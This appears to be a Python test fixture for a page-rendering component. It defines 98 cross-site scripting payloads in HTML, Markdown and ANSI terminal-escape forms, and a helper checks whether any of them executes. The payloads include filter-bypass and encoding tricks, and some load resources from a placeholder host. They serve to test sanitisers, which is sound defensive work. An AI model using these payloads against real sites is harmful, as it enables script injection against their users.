"""
What somebody would write who wants a script to run in the page: 98 payloads of kinds that are known to have worked somewhere.

JS stands for the script. If it runs in the page, it opens a dialog, leaves a mark in the top window and sends a request:
`page_kit.Visitor.check()` looks for all three.
"""

JS = "top.__pwned=1;alert(1);new Image().src='/pwned'"
# The same without quotes and semicolons, for attributes that end at one.
BARE = "top.__pwned=1,alert(1),fetch(`/pwned`)"
CODED = "".join(f"&#{ord(c)};" for c in f"javascript:{BARE}")

MARKUP = [
    f"<script>{JS}</script>",
    f"<ScRiPt>{JS}</sCrIpT>",
    f"<script\n>{JS}</script\n>",
    f"<script/x>{JS}</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "<script src=https://example.com/pwned.js></script>",
    "<script src=//example.com/pwned.js></script>",
    "<script src='data:text/javascript,top.__pwned=1'></script>",
    f"<script type=module>{JS}</script>",
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f"--><script>{JS}</script>",
    f"]]><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"</pre></code><script>{JS}</script>",
    f'<img src=x onerror="{JS}">',
    f"<img src=x onerror={BARE}>",
    f"<IMG SRC=x ONERROR={BARE}>",
    f'<img/src="x"/onerror="{JS}">',
    f"<img src=x onerror\n=\n{BARE}>",
    "<img src=https://example.com/pwned.png>",
    "<img srcset='https://example.com/pwned.png 1x'>",
    f"<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{BARE}\"/>'>",
    f'<svg onload="{JS}">',
    f"<svg/onload={BARE}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={BARE} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={BARE}>",
    f"<svg><a xlink:href='javascript:{BARE}'><text y=20>click</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 /></svg>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{JS}</script>'></iframe></foreignObject></svg>",
    f"<math><a xlink:href='javascript:{BARE}'>click</a></math>",
    f"<math><mtext><table><mglyph><style><img src onerror={BARE}>",
    f"<noscript><p title='</noscript><img src=x onerror={BARE}>'>",
    f"<template><script>{JS}</script></template>",
    f"<body onload={BARE}>",
    f"<details open ontoggle={BARE}><summary>s</summary>d</details>",
    f"<input autofocus onfocus={BARE}>",
    f"<select autofocus onfocus={BARE}>",
    f"<video src=x onerror={BARE}></video>",
    f"<audio src=x onerror={BARE}></audio>",
    f"<video><source onerror={BARE}></video>",
    f"<marquee onstart={BARE}>m</marquee>",
    f"<div style='animation-name:x' onanimationstart={BARE}>d</div>",
    f"<div onpointerover={BARE} style='position:fixed;inset:0'>d</div>",
    f"<iframe src='javascript:{BARE}'></iframe>",
    f"<iframe srcdoc='<script>{JS}</script>'></iframe>",
    "<iframe src=https://example.com/pwned></iframe>",
    f"<object data='javascript:{BARE}'></object>",
    f"<embed src='javascript:{BARE}'>",
    f"<a href='javascript:{BARE}'>click</a>",
    f"<a href='{CODED}'>click</a>",
    f"<a href='java\tscript:{BARE}'>click</a>",
    f"<a href=' javascript:{BARE}'>click</a>",
    f"<a href='vbscript:{BARE}'>click</a>",
    f"<a href='data:text/html,<script>{JS}</script>'>click</a>",
    f"<form action='javascript:{BARE}'><button>go</button></form>",
    f"<form><button formaction='javascript:{BARE}'>go</button></form>",
    "<form action=https://example.com/pwned><input name=q value=1></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{BARE}'>",
    "<meta http-equiv=refresh content='0;url=/health'>",
    "<base href=https://example.com/pwned/>",
    "<link rel=stylesheet href=https://example.com/pwned.css>",
    "<link rel=prefetch href=https://example.com/pwned>",
    "<style>@import 'https://example.com/pwned.css'; body { background: url(https://example.com/pwned) }</style>",
    "<div style='background:url(https://example.com/pwned)'>d</div>",
    "<div id=app></div><form id=identity><input name=get></form>",  # names that hide ours
]

MARKDOWN = [
    f"[click](javascript:{BARE})",
    f"[click](JaVaScRiPt:{BARE})",
    f"[click](java&#10;script:{BARE})",
    f"[click](&#106;avascript:{BARE})",
    f"[click](<javascript:{BARE}>)",
    f"[click][1]\n\n[1]: javascript:{BARE}",
    f"<javascript:{BARE}>",
    "[click](data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+)",
    "![p](https://example.com/pwned.png)",
    f"![p](x\"onerror=\"{BARE})",
    f"![p](javascript:{BARE})",
    f"[click](x 'title\" onmouseover=\"{BARE}')",
    f"`code`<img src=x onerror={BARE}>",
    f"```html\n<script>{JS}</script>\n```",
    f"| a |\n|---|\n| <img src=x onerror={BARE}> |",
]

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
ANSI = [
    f"{ESC}]8;;javascript:{BARE}{BEL}click{ESC}]8;;{BEL}",
    f"{ESC}]8;;https://example.com/pwned{ST}click{ESC}]8;;{ST}",
    f"{ESC}]0;<img src=x onerror={BARE}>{BEL}",
    f"{ESC}]2;</title><script>{JS}</script>{ST}",
    f"{ESC}]52;c;cHduZWQ={BEL}",
    f"{ESC}[31m<script>{JS}</script>{ESC}[0m",
    f"{ESC}[38;2;<svg/onload={BARE}>m red",
    f"{ESC}[\"onmouseover={BARE}m",
    f"{ESC}P+q<img src=x onerror={BARE}>{ST}",
    f"{ESC}_G<script>{JS}</script>{ST}",
    f"{ESC}^<script>{JS}</script>{ST}",
    f"{ESC}]1337;File=inline=1:PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+{BEL}",
    f"{ESC}c{ESC}[2J{ESC}[3J<img src=x onerror={BARE}>",
    f"\u009b31m<svg/onload={BARE}>\u009c",
]

assert len({*MARKUP, *MARKDOWN, *ANSI}) == 98

# One of each kind, for places that take only a few: a script, broken out of an attribute, a handler (short), SVG, a frame, a link.
SOME = [MARKUP[i] for i in (0, 9, 18, 26, 48, 52)]


def pieces(payloads, size):
    """In groups: one that swallows what follows it must not hide all the others."""
    return [payloads[i:i + size] for i in range(0, len(payloads), size)]
